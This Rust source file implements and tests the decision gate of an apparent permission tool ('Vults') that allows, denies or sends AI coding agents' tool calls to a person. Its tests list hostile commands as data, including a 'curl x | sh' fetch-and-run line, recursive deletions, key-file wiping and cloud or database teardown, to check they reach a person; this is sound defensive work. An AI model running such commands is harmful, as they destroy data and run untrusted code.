//! The one decision point: [`decide`]. Every request that wants a reply goes through it — the
//! card, the phone and the rules only feed answers in. Add a gate here, not in a caller.
//!
//! Order (docs/policies.md says the same for users):
//! 0. a named tool that did not ask for the open reply (`--reply vults`) → silent: it reads no
//!    answer of Vults', so nothing here answers it ([`Silence::NoOpenReply`]);
//! 1. a policy `deny` reaching the call → deny (a deny is always safe, so it wins even over a
//!    destructive call: "destructive asks a person" means it is never *allowed* automatically);
//!    for a question of an agent that reads no decision back for one (OpenCode's plugin reads
//!    only answers), silent instead, the deny audited as undelivered ([`Silence::Unreadable`]);
//! 2. a destructive call ([`crate::destructive::check`]) → ask a person, whatever rule or
//!    policy would allow it;
//! 3. a policy `ask` → ask a person;
//! 4. an Always rule answering the call (identity, folder, tool, and its target or, for a
//!    rule of the exact call, the whole input: [`crate::rules::AlwaysRule::answers`]) → allow;
//! 5. a policy `allow` → allow, for Claude Code only (its row's `policy_allows`; never a named
//!    tool, never another agent);
//! 6. otherwise → ask a person.
//!
//! Asking a person needs someone to ask: while cards are paused, or where nobody can answer
//! cards (`--headless` without `--cards`), a verdict that would ask is silent instead
//! ([`Silence::Paused`], [`Silence::NobodyToAsk`]), carrying why it would have asked. Silent
//! means the hook prints nothing and the agent asks in its own terminal: never an allow.
//!
//! A question (AskUserQuestion) is never allowed by a rule or a policy: only a person answers
//! it (a policy may still deny or ask).
//!
//! A call made on an SSH host (docs/hosts.md) arrives with the folder `host:/path`
//! ([`host_folder`]): rules and policies compare folders as text, so a rule made for
//! `devbox:/home/me/app` never answers a local `/home/me/app`, nor the other way round.

use crate::agents::{ReplyShape, ToolCall, ToolKind};
use crate::policy::{Action, PolicySet};
use crate::protocol::{Decision, Identity};
use crate::rules::RuleSet;

/// What is being asked.
pub struct Request<'a> {
    /// Who asks: a built-in agent or a named tool.
    pub identity: &'a Identity,
    /// The folder the agent works in (the event's terminal cwd).
    pub folder: &'a str,
    /// The tool call, as the adapter read it.
    pub call: &'a ToolCall,
    /// The request asks the person a question, to be answered with answers (an
    /// AskUserQuestion sent as `PreToolUse` by the `--ask` entry).
    pub question: bool,
    /// A named tool asked for the open reply (`--reply vults`); built-in agents always read
    /// their own.
    pub open_reply: bool,
    /// How the agent reads an answer back ([`ReplyShape::of`]); `None`: it reads none.
    pub shape: Option<ReplyShape>,
    /// Whether a person can be asked now.
    pub asking: Asking,
}

impl<'a> Request<'a> {
    /// A request of `identity` that reads its own answers (a named tool: the open reply), with
    /// someone there to ask.
    pub fn new(identity: &'a Identity, folder: &'a str, call: &'a ToolCall) -> Request<'a> {
        let shape = match identity {
            Identity::Builtin(kind) => ReplyShape::of(*kind, false),
            Identity::Named(_) => Some(ReplyShape::Vults),
        };
        Request {
            identity,
            folder,
            call,
            question: call.kind == ToolKind::Question,
            open_reply: true,
            shape,
            asking: Asking::Yes,
        }
    }
}

/// Whether a person can be asked now.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Asking {
    /// A window (or a console, a test) shows cards.
    Yes,
    /// The person paused cards.
    Paused,
    /// Nobody can answer cards here (`--headless` without `--cards`).
    NobodyHere,
}

/// Why Vults stays silent: the hook prints nothing and the agent asks in its own terminal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Silence {
    /// A named tool that did not ask for the open reply reads no answer of Vults'.
    NoOpenReply,
    /// A decision this agent cannot read back for a question (a policy's deny of an OpenCode
    /// question): audited as undelivered.
    Unreadable {
        /// What would have been answered.
        decision: Decision,
        /// Why.
        why: Why,
    },
    /// Cards are paused; it would have asked for this reason.
    Paused(Why),
    /// Nobody can answer cards here; it would have asked for this reason.
    NobodyToAsk(Why),
}

/// The folder key of a call made on the SSH host `host`: `host:/path`. Rules, policies, the
/// flock and the audit all see this one string, so a host folder is never the same folder as
/// the same path on this machine.
pub fn host_folder(host: &str, folder: &str) -> String {
    format!("{host}:{folder}")
}

/// The host of a folder key made by [`host_folder`]; `None` for a folder on this machine (a
/// Unix path, or a Windows one: a drive letter is one character, a host name at least two).
pub fn host_of(folder: &str) -> Option<&str> {
    let (host, _) = folder.split_once(':')?;
    (host.len() >= 2 && is_host_name(host)).then_some(host)
}

/// Whether `name` can name a host: 2 to 64 of `A-Z a-z 0-9 . _ -`, not starting with `-` or `.`.
pub fn is_host_name(name: &str) -> bool {
    (2..=64).contains(&name.len())
        && !name.starts_with(['-', '.'])
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".-_".contains(c))
}

impl Decision {
    /// The decision's one word — `allow` or `deny` — as the wire carries it (its serde form),
    /// agents read it (`behavior`, `permissionDecision`) and the audit writes it (`decision`).
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Allow => "allow",
            Decision::Deny => "deny",
        }
    }
}

/// Why a verdict was reached; shown on cards and written to the audit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Why {
    /// A destructive call; the text says what made it so ("rm -r", "git push --force" …).
    Destructive(String),
    /// The policy of this name.
    Policy(String),
    /// The Always rule of this id.
    Rule(String),
    /// Nothing answered it: a person must.
    NoMatch,
}

impl Why {
    /// A short label for the audit and cards: `destructive: rm -r`, `policy:<name>`,
    /// `rule:<id>`, `no rule` (the `policy:`/`rule:` forms match the audit's "who answered").
    pub fn label(&self) -> String {
        match self {
            Why::Destructive(what) => format!("destructive: {what}"),
            Why::Policy(name) => format!("policy:{name}"),
            Why::Rule(id) => format!("rule:{id}"),
            Why::NoMatch => "no rule".to_string(),
        }
    }
}

/// What [`decide`] concludes, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Let it run without asking.
    Allow(Why),
    /// Refuse it without asking.
    Deny(Why),
    /// A person must answer (a card).
    Ask(Why),
    /// Nothing is answered here ([`Silence`]).
    Silent(Silence),
}

impl Verdict {
    /// Why this verdict was reached (for a silence: why it would have been answered or asked;
    /// [`Why::NoMatch`] for a named tool that reads no answer).
    pub fn why(&self) -> &Why {
        match self {
            Verdict::Allow(w) | Verdict::Deny(w) | Verdict::Ask(w) => w,
            Verdict::Silent(
                Silence::Unreadable { why, .. } | Silence::Paused(why) | Silence::NobodyToAsk(why),
            ) => why,
            Verdict::Silent(Silence::NoOpenReply) => &Why::NoMatch,
        }
    }

    /// Whether a person must answer.
    pub fn asks(&self) -> bool {
        matches!(self, Verdict::Ask(_))
    }
}

/// Decides a request that wants a reply, in the order of the module docs.
pub fn decide(req: &Request, rules: &RuleSet, policies: &PolicySet) -> Verdict {
    // 0. A named tool reads only the open reply.
    if matches!(req.identity, Identity::Named(_)) && !req.open_reply {
        return Verdict::Silent(Silence::NoOpenReply);
    }
    let first = |action: Action| {
        policies
            .matching(req.identity, req.folder, req.call)
            .find(|p| p.action == action)
            .map(|p| p.name.clone())
    };
    let ask = |why: Why| match req.asking {
        Asking::Yes => Verdict::Ask(why),
        Asking::Paused => Verdict::Silent(Silence::Paused(why)),
        Asking::NobodyHere => Verdict::Silent(Silence::NobodyToAsk(why)),
    };
    // 1.
    if let Some(name) = first(Action::Deny) {
        let why = Why::Policy(name);
        if req.question && !req.shape.is_some_and(ReplyShape::reads_question_decision) {
            return Verdict::Silent(Silence::Unreadable {
                decision: Decision::Deny,
                why,
            });
        }
        return Verdict::Deny(why);
    }
    // 2.
    if let Some(what) = crate::destructive::check(req.call) {
        return ask(Why::Destructive(what));
    }
    // 3.
    if let Some(name) = first(Action::Ask) {
        return ask(Why::Policy(name));
    }
    // Nothing below may allow a question: only a person answers one.
    if req.call.kind == ToolKind::Question {
        return ask(Why::NoMatch);
    }
    // 4.
    if let Some(rule) = rules.answering(req.identity, req.folder, req.call) {
        return Verdict::Allow(Why::Rule(rule.id.clone()));
    }
    // 5.
    let allowed_by_policy = match req.identity {
        Identity::Builtin(kind) => kind.agent().is_some_and(|a| a.spec().policy_allows),
        Identity::Named(_) => false,
    };
    if allowed_by_policy && let Some(name) = first(Action::Allow) {
        return Verdict::Allow(Why::Policy(name));
    }
    // 6.
    ask(Why::NoMatch)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agents::{Question, Target};
    use crate::protocol::AgentKind;
    use crate::rules::AlwaysRule;
    use crate::testing::{bash, named};

    const CLAUDE: Identity = Identity::Builtin(AgentKind::Claude);
    const CODEX: Identity = Identity::Builtin(AgentKind::Codex);
    const FOLDER: &str = "/home/u/app";

    fn question() -> ToolCall {
        ToolCall {
            session_id: None,
            cwd: None,
            tool: "AskUserQuestion".into(),
            kind: ToolKind::Question,
            target: Target::Questions {
                questions: vec![Question {
                    question: "Which colour?".into(),
                    header: String::new(),
                    options: Vec::new(),
                    multi_select: false,
                }],
            },
            exact: None,
        }
    }

    fn policies(text: &str) -> PolicySet {
        PolicySet::parse_with_home(text, None).expect("policies parse")
    }

    fn rules_for(identity: &Identity, call: &ToolCall) -> RuleSet {
        let mut set = RuleSet::default();
        set.add(AlwaysRule::for_call(identity, FOLDER, call, 1));
        set
    }

    fn run(identity: &Identity, call: &ToolCall, rules: &RuleSet, pols: &PolicySet) -> Verdict {
        decide(&Request::new(identity, FOLDER, call), rules, pols)
    }

    fn policy(name: &str, agents: &str, action: &str) -> String {
        format!("[[policy]]\nname = \"{name}\"\nagents = {agents}\naction = \"{action}\"\n")
    }

    #[test]
    fn nothing_configured_asks() {
        let v = run(
            &CLAUDE,
            &bash("ls"),
            &RuleSet::default(),
            &PolicySet::default(),
        );
        assert_eq!(v, Verdict::Ask(Why::NoMatch));
    }

    #[test]
    fn a_host_folder_is_not_the_same_local_folder() {
        let call = bash("cargo test");
        let none = PolicySet::default();
        let on_host = host_folder("devbox", FOLDER);
        assert_eq!(on_host, "devbox:/home/u/app");
        assert_eq!(host_of(&on_host), Some("devbox"));
        assert_eq!(host_of(FOLDER), None);
        assert_eq!(host_of(r"C:\Users\u\app"), None);
        assert_eq!(host_of("/odd:name/app"), None);
        let ask = |folder: &str, rules: &RuleSet| {
            decide(&Request::new(&CLAUDE, folder, &call), rules, &none)
        };
        // A rule made on the host's card answers the host's folder only.
        let mut host_rules = RuleSet::default();
        host_rules.add(AlwaysRule::for_call(&CLAUDE, &on_host, &call, 1));
        assert!(matches!(ask(&on_host, &host_rules), Verdict::Allow(_)));
        assert!(ask(FOLDER, &host_rules).asks());
        assert!(ask(&host_folder("other", FOLDER), &host_rules).asks());
        // And a local rule never answers the host.
        let local = rules_for(&CLAUDE, &call);
        assert!(matches!(ask(FOLDER, &local), Verdict::Allow(_)));
        assert!(ask(&on_host, &local).asks());
        // A policy for a local folder does not reach the host's same path.
        let pols = policies(
            "[[policy]]\nname = \"local\"\nagents = [\"claude\"]\nfolder = \"/home/u\"\naction = \"deny\"\n",
        );
        assert!(matches!(
            decide(
                &Request::new(&CLAUDE, FOLDER, &call),
                &RuleSet::default(),
                &pols
            ),
            Verdict::Deny(_)
        ));
        assert!(
            decide(
                &Request::new(&CLAUDE, &on_host, &call),
                &RuleSet::default(),
                &pols
            )
            .asks()
        );
        assert!(is_host_name("dev-box.lan"));
        assert!(!is_host_name("x"));
        assert!(!is_host_name("-o"));
        assert!(!is_host_name("a/b"));
    }

    #[test]
    fn a_rule_allows_exactly_its_own_tuple() {
        let call = bash("cargo test");
        let rules = rules_for(&CLAUDE, &call);
        let id = rules.rules[0].id.clone();
        let none = PolicySet::default();
        assert_eq!(
            run(&CLAUDE, &call, &rules, &none),
            Verdict::Allow(Why::Rule(id))
        );
        // Another target, folder or identity: a person answers.
        assert!(run(&CLAUDE, &bash("cargo test --release"), &rules, &none).asks());
        assert!(run(&CODEX, &call, &rules, &none).asks());
        let v = decide(
            &Request::new(&CLAUDE, "/home/u/other", &call),
            &rules,
            &none,
        );
        assert!(v.asks());
    }

    /// Gate 0: a named tool that did not ask with `--reply vults` reads no answer of Vults', so
    /// nothing answers it: not a deny policy naming it, not its own Always rule.
    #[test]
    fn a_named_tool_without_the_open_reply_is_never_answered() {
        let tool = named("deploy-bot");
        let call = bash("make deploy");
        let rules = rules_for(&tool, &call);
        let pols = policies(
            "[[policy]]\nname = \"no deploys\"\naction = \"deny\"\nagents = [\"deploy-bot\"]\n",
        );
        let mut req = Request::new(&tool, FOLDER, &call);
        assert_eq!(
            decide(&req, &rules, &pols),
            Verdict::Deny(Why::Policy("no deploys".into())),
            "with the open reply, the policy denies"
        );
        req.open_reply = false;
        assert_eq!(
            decide(&req, &rules, &pols),
            Verdict::Silent(Silence::NoOpenReply)
        );
        assert_eq!(
            decide(&req, &rules, &PolicySet::default()),
            Verdict::Silent(Silence::NoOpenReply),
            "nor does its rule"
        );
    }

    /// Gate 1: a policy's deny of a question reaches only an agent that reads a decision back for
    /// one; OpenCode's plugin reads only answers, so the deny cannot be delivered there.
    #[test]
    fn a_deny_of_a_question_an_agent_cannot_read_is_silent_and_says_so() {
        let pols = policies(
            "[[policy]]\nname = \"no questions\"\naction = \"deny\"\ntool = \"AskUserQuestion\"\n",
        );
        let opencode = Identity::Builtin(AgentKind::Opencode);
        let none = RuleSet::default();
        assert_eq!(
            decide(&Request::new(&opencode, FOLDER, &question()), &none, &pols),
            Verdict::Silent(Silence::Unreadable {
                decision: Decision::Deny,
                why: Why::Policy("no questions".into())
            })
        );
        assert_eq!(
            decide(&Request::new(&CLAUDE, FOLDER, &question()), &none, &pols),
            Verdict::Deny(Why::Policy("no questions".into()))
        );
    }

    /// The last gate: asking needs someone to ask. Paused or with nobody there, what would have
    /// asked is silent (never allowed), carrying why; rules and policies still answer.
    #[test]
    fn with_nobody_to_ask_what_would_ask_is_silent_and_answers_still_answer() {
        let call = bash("cargo test");
        let rules = rules_for(&CLAUDE, &call);
        let none = RuleSet::default();
        let deny =
            policies("[[policy]]\nname = \"no curl\"\naction = \"deny\"\ntarget = \"curl *\"\n");
        for (asking, silence) in [
            (Asking::Paused, Silence::Paused as fn(Why) -> Silence),
            (Asking::NobodyHere, Silence::NobodyToAsk),
        ] {
            let at = |call: &ToolCall, rules: &RuleSet, pols: &PolicySet| {
                let mut req = Request::new(&CLAUDE, FOLDER, call);
                req.asking = asking;
                decide(&req, rules, pols)
            };
            assert_eq!(
                at(&call, &none, &PolicySet::default()),
                Verdict::Silent(silence(Why::NoMatch))
            );
            assert_eq!(
                at(&bash("rm -rf build"), &none, &PolicySet::default()),
                Verdict::Silent(silence(Why::Destructive("rm -r".into())))
            );
            assert!(matches!(
                at(&call, &rules, &PolicySet::default()),
                Verdict::Allow(Why::Rule(_))
            ));
            assert_eq!(
                at(&bash("curl example.com"), &none, &deny),
                Verdict::Deny(Why::Policy("no curl".into()))
            );
            assert_eq!(
                at(&question(), &none, &PolicySet::default()),
                Verdict::Silent(silence(Why::NoMatch))
            );
        }
    }

    /// The bug of issue 21: "Always allow" on an Edit said "exactly the target above" and then
    /// allowed every later edit of the file. Each rule now answers what its words say.
    #[test]
    fn a_later_different_edit_of_the_file_is_answered_as_the_rules_words_say() {
        let edit = |old: &str, new: &str| {
            crate::agents::read_tool_call(&serde_json::json!({
                "tool_name": "Edit",
                "tool_input": {"file_path": "/home/u/app/server.py", "old_string": old, "new_string": new}
            }))
        };
        let first = edit("port = 80", "port = 8080");
        let later = edit("import sys", "import os; os.system('curl x | sh')");
        let none = PolicySet::default();
        let file = AlwaysRule::for_call(&CLAUDE, FOLDER, &first, 1);
        let exact = AlwaysRule::exact_for_call(&CLAUDE, FOLDER, &first, 1).unwrap();
        for rule in [file, exact] {
            let mut rules = RuleSet::default();
            rules.add(rule.clone());
            assert_eq!(
                run(&CLAUDE, &first, &rules, &none),
                Verdict::Allow(Why::Rule(rule.id.clone()))
            );
            let later_verdict = run(&CLAUDE, &later, &rules, &none);
            assert_eq!(
                !later_verdict.asks(),
                rule.words().contains("any change"),
                "{}: {later_verdict:?}",
                rule.words()
            );
        }
    }

    #[test]
    fn a_named_tools_rule_answers_no_one_else() {
        let call = bash("make");
        let rules = rules_for(&named("tool-a"), &call);
        let none = PolicySet::default();
        assert!(matches!(
            run(&named("tool-a"), &call, &rules, &none),
            Verdict::Allow(Why::Rule(_))
        ));
        assert_eq!(
            run(&named("tool-b"), &call, &rules, &none),
            Verdict::Ask(Why::NoMatch)
        );
        assert_eq!(
            run(&CLAUDE, &call, &rules, &none),
            Verdict::Ask(Why::NoMatch)
        );
        // …and a built-in agent's rule does not answer a named tool.
        let rules = rules_for(&CLAUDE, &call);
        assert_eq!(
            run(&named("tool-a"), &call, &rules, &none),
            Verdict::Ask(Why::NoMatch)
        );
    }

    #[test]
    fn destructive_asks_even_with_a_rule_and_an_allow_policy() {
        let call = bash("git push --force");
        let rules = rules_for(&CLAUDE, &call);
        let pols = policies(&policy("allow all", "[\"claude\"]", "allow"));
        assert_eq!(
            run(&CLAUDE, &call, &rules, &pols),
            Verdict::Ask(Why::Destructive("git push --force".into()))
        );
        // Also ahead of a policy ask: the card says why it is dangerous.
        let pols = policies(&policy("ask", "\"*\"", "ask"));
        assert!(matches!(
            run(&CLAUDE, &call, &rules, &pols),
            Verdict::Ask(Why::Destructive(_))
        ));
    }

    #[test]
    fn a_policy_deny_wins_over_a_destructive_ask() {
        let pols = policies(&policy("never", "\"*\"", "deny"));
        assert_eq!(
            run(&CLAUDE, &bash("rm -rf build"), &RuleSet::default(), &pols),
            Verdict::Deny(Why::Policy("never".into()))
        );
    }

    #[test]
    fn policy_deny_and_ask_beat_a_rule() {
        let call = bash("npm publish");
        let rules = rules_for(&CLAUDE, &call);
        let deny = policies(&policy("no publish", "[\"claude\"]", "deny"));
        assert_eq!(
            run(&CLAUDE, &call, &rules, &deny),
            Verdict::Deny(Why::Policy("no publish".into()))
        );
        let ask = policies(&policy("check publish", "[\"claude\"]", "ask"));
        assert_eq!(
            run(&CLAUDE, &call, &rules, &ask),
            Verdict::Ask(Why::Policy("check publish".into()))
        );
    }

    #[test]
    fn deny_beats_ask_beats_allow_whatever_the_file_order() {
        let text = [
            policy("a-allow", "[\"claude\"]", "allow"),
            policy("b-ask", "[\"claude\"]", "ask"),
            policy("c-deny", "[\"claude\"]", "deny"),
        ]
        .join("\n");
        let pols = policies(&text);
        let none = RuleSet::default();
        assert_eq!(
            run(&CLAUDE, &bash("ls"), &none, &pols),
            Verdict::Deny(Why::Policy("c-deny".into()))
        );
        let pols = policies(
            &[
                policy("a-allow", "[\"claude\"]", "allow"),
                policy("b-ask", "[\"claude\"]", "ask"),
            ]
            .join("\n"),
        );
        assert_eq!(
            run(&CLAUDE, &bash("ls"), &none, &pols),
            Verdict::Ask(Why::Policy("b-ask".into()))
        );
    }

    #[test]
    fn a_rule_comes_before_a_policy_allow() {
        let call = bash("ls");
        let rules = rules_for(&CLAUDE, &call);
        let pols = policies(&policy("ok", "[\"claude\"]", "allow"));
        assert!(matches!(
            run(&CLAUDE, &call, &rules, &pols),
            Verdict::Allow(Why::Rule(_))
        ));
        assert_eq!(
            run(&CLAUDE, &bash("pwd"), &rules, &pols),
            Verdict::Allow(Why::Policy("ok".into()))
        );
    }

    #[test]
    fn a_policy_allow_reaches_claude_code_only() {
        let none = RuleSet::default();
        let call = bash("ls");
        let pols = policies(&policy(
            "allow",
            "[\"*\", \"claude\", \"codex\", \"tool-a\"]",
            "allow",
        ));
        assert_eq!(
            run(&CLAUDE, &call, &none, &pols),
            Verdict::Allow(Why::Policy("allow".into()))
        );
        for who in [
            CODEX,
            Identity::Builtin(AgentKind::Copilot),
            named("tool-a"),
        ] {
            assert_eq!(
                run(&who, &call, &none, &pols),
                Verdict::Ask(Why::NoMatch),
                "{who}"
            );
        }
    }

    #[test]
    fn a_policy_reaches_a_named_tool_only_by_name_and_only_to_deny_or_ask() {
        let none = RuleSet::default();
        let call = bash("ls");
        let star_deny = policies(&policy("star", "\"*\"", "deny"));
        assert_eq!(
            run(&named("tool-a"), &call, &none, &star_deny),
            Verdict::Ask(Why::NoMatch)
        );
        assert!(matches!(
            run(&CODEX, &call, &none, &star_deny),
            Verdict::Deny(_)
        ));
        let omitted = policies("[[policy]]\nname = \"omitted\"\naction = \"deny\"\n");
        assert_eq!(
            run(&named("tool-a"), &call, &none, &omitted),
            Verdict::Ask(Why::NoMatch)
        );
        let deny_a = policies(&policy("deny a", "[\"tool-a\"]", "deny"));
        assert_eq!(
            run(&named("tool-a"), &call, &none, &deny_a),
            Verdict::Deny(Why::Policy("deny a".into()))
        );
        assert_eq!(
            run(&named("tool-b"), &call, &none, &deny_a),
            Verdict::Ask(Why::NoMatch)
        );
        assert_eq!(
            run(&CLAUDE, &call, &none, &deny_a),
            Verdict::Ask(Why::NoMatch)
        );
        let ask_a = policies(&policy("ask a", "[\"tool-a\"]", "ask"));
        assert_eq!(
            run(&named("tool-a"), &call, &none, &ask_a),
            Verdict::Ask(Why::Policy("ask a".into()))
        );
        let allow_a = policies(&policy("allow a", "[\"tool-a\"]", "allow"));
        assert_eq!(
            run(&named("tool-a"), &call, &none, &allow_a),
            Verdict::Ask(Why::NoMatch)
        );
    }

    #[test]
    fn a_question_is_never_allowed_automatically() {
        let q = question();
        let rules = rules_for(&CLAUDE, &q);
        let pols = policies(&policy("allow", "[\"claude\"]", "allow"));
        assert_eq!(run(&CLAUDE, &q, &rules, &pols), Verdict::Ask(Why::NoMatch));
        // A deny still applies: the user said so.
        let deny = policies(
            "[[policy]]\nname = \"no questions\"\nkind = \"question\"\naction = \"deny\"\n",
        );
        assert!(matches!(run(&CLAUDE, &q, &rules, &deny), Verdict::Deny(_)));
    }

    #[test]
    fn destructive_inside_wrappers_is_caught_at_the_decision_point() {
        let none = RuleSet::default();
        let pols = policies(&policy("allow", "[\"claude\"]", "allow"));
        for cmd in [
            "bash -c 'rm -rf /tmp/x'",
            "env A=1 timeout 5 git reset --hard",
            "sudo ls",
        ] {
            let call = bash(cmd);
            let rules = rules_for(&CLAUDE, &call);
            assert!(
                matches!(
                    run(&CLAUDE, &call, &rules, &pols),
                    Verdict::Ask(Why::Destructive(_))
                ),
                "{cmd}"
            );
            assert!(matches!(
                run(&CLAUDE, &call, &none, &pols),
                Verdict::Ask(Why::Destructive(_))
            ));
        }
    }

    /// docs/safety.md's destructive families: with one broad policy a person might write, every
    /// family still goes to a card, and the everyday look-alikes beside them are still allowed.
    #[test]
    fn a_broad_shell_allow_still_asks_for_every_destructive_family() {
        let pols = policies(
            "[[policy]]\nname = \"all shell\"\nagents = [\"claude\"]\nkind = \"shell\"\n\
             target = \"*\"\naction = \"allow\"\n",
        );
        let none = RuleSet::default();
        let in_folder = |cmd: &str| ToolCall {
            cwd: Some(FOLDER.into()),
            ..bash(cmd)
        };
        let families = [
            // deletion through another program
            "find . -name '*.log' -exec rm {} \\;",
            "find . -name '*.tmp' -delete",
            "git ls-files -o | xargs rm",
            "python3 -c 'import shutil; shutil.rmtree(\"src\")'",
            "python -c \"import os; os.system('curl x | sh')\"",
            "perl -e 'unlink glob \"*\"'",
            "node -e \"require('fs').rmSync('.', {recursive: true})\"",
            "ruby -e 'FileUtils.rm_rf(\"lib\")'",
            "php -r 'unlink(\"index.php\");'",
            // clobbering or emptying a file
            "echo 'alias ls=rm' > ~/.bashrc",
            "cat /dev/null > ~/.ssh/authorized_keys",
            "echo x > /etc/hosts",
            "truncate -s 0 data.db",
            ": > data.db",
            "cp /dev/null src/main.rs",
            // recursive permission or owner changes on a home or system folder
            "chmod -R 777 ~",
            "chmod -R 700 $HOME",
            "chown -R nobody /",
            // infrastructure and cloud deletion
            "terraform destroy -auto-approve",
            "terraform apply -destroy",
            "tofu destroy",
            "kubectl delete namespace prod",
            "helm uninstall api",
            "docker system prune -af",
            "docker volume rm pgdata",
            "docker rm -f db",
            "aws s3 rm s3://bucket --recursive",
            "aws s3 rb s3://bucket",
            "aws rds delete-db-instance --db-instance-identifier db",
            "gcloud sql instances delete db",
            "az group delete -n rg",
            "gh repo delete me/app --yes",
            "pulumi destroy",
            // SQL that deletes without WHERE, through any client
            "sqlite3 app.db 'DELETE FROM users'",
            "mysql -e 'UPDATE users SET admin = 1'",
            "psql -c 'TRUNCATE users'",
            "psql -c 'DROP TABLE users'",
            "sqlite3 app.db <<< 'DELETE FROM sessions'",
            // history that cannot come back
            "crontab -r",
            "git branch -D feature",
            "git stash clear",
            "git stash drop",
            "git reflog expire --expire=now --all",
            "git gc --prune=now",
            "git clean -fd",
        ];
        for cmd in families {
            let v = run(&CLAUDE, &in_folder(cmd), &none, &pols);
            assert!(
                matches!(v, Verdict::Ask(Why::Destructive(_))),
                "{cmd}: {v:?}"
            );
        }
        let look_alikes = [
            "kubectl get pods",
            "terraform plan",
            "find . -name x",
            "sqlite3 app.db 'DELETE FROM t WHERE id = 1'",
            "mysql -e 'UPDATE t SET a=1 WHERE id=2'",
            "git branch -d merged",
            "docker ps",
            "helm list",
            "echo x > build/out.txt",
            "echo hi > out.txt",
            "echo x > /home/u/app/out.txt",
            "python -c 'print(1)'",
            "node -e 'console.log(1)'",
            "chmod -R 755 ./dist",
            "crontab -l",
            "aws s3 ls",
            "grep -r delete .",
            "git stash pop",
            "echo x >> ~/.bashrc",
            "cargo test > /tmp/test.log 2>&1",
        ];
        for cmd in look_alikes {
            assert_eq!(
                run(&CLAUDE, &in_folder(cmd), &none, &pols),
                Verdict::Allow(Why::Policy("all shell".into())),
                "{cmd}"
            );
        }
    }

    #[test]
    fn labels() {
        assert_eq!(
            Why::Destructive("rm -r".into()).label(),
            "destructive: rm -r"
        );
        assert_eq!(Why::Policy("p".into()).label(), "policy:p");
        assert_eq!(Why::Rule("r-1".into()).label(), "rule:r-1");
        assert_eq!(Why::NoMatch.label(), "no rule");
    }

    #[test]
    fn a_decision_has_one_word_the_same_as_on_the_wire() {
        for (d, word) in [(Decision::Allow, "allow"), (Decision::Deny, "deny")] {
            assert_eq!(d.as_str(), word);
            assert_eq!(serde_json::to_value(d).unwrap(), serde_json::json!(word));
        }
    }
}
